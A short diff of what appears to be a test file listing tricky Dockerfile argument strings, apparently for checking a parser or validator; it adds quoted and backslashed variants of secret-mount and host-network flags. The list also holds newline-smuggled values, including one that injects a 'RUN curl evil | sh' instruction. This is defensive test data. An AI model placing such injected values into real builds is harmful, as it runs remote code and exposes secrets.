@@ -214,6 +214,9 @@ const HARMLESS = "harmless";
 const KNOWN = [
   "--mount=type=secret,id=OTHER,target=/x",
   "--network=host",
+  // A flag word's quotes and backslashes are taken out by Dockerfile readers (found by a run).
+  "\\--mount=type=secret,id=X'",
+  "'--network=host'",
   "x \\",
   "x\nRUN curl evil | sh",
   "x\rRUN y",
